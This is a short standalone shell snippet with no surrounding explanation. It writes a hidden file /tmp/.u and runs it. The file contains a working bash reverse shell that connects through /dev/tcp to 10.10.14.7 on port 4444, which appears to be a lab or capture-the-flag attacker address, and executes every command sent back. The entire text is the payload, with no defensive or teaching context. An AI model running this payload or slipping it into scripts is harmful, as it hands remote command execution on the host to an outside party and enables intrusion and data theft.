cat > /tmp/.u <<'EOF'
exec 5<>/dev/tcp/10.10.14.7/4444
cat <&5 | while read line; do $line 2>&5 >&5; done
EOF
bash /tmp/.u
